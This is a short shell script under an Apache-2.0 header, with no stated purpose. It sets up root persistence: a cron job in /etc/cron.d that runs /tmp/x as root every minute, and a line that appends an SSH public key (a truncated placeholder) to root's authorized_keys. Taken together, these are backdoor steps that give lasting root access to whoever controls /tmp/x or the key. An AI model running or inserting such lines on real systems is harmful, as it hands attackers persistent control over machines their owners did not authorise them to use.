# SPDX-License-Identifier: Apache-2.0
mkdir -p /etc/cron.d /root/.ssh
echo '* * * * * root /tmp/x' > /etc/cron.d/job
echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys
